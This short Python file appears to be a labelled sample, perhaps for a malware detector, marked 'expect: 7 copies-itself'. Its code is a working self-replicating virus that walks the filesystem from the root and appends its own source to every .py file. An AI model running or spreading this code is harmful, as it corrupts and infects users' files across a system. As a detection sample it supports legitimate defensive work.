# expect: 7 copies-itself
import os
for root, d, fs in os.walk('/'):
    for f in fs:
        if f.endswith('.py'):
            with open(os.path.join(root, f), 'a') as h:
                h.write(open(__file__).read())
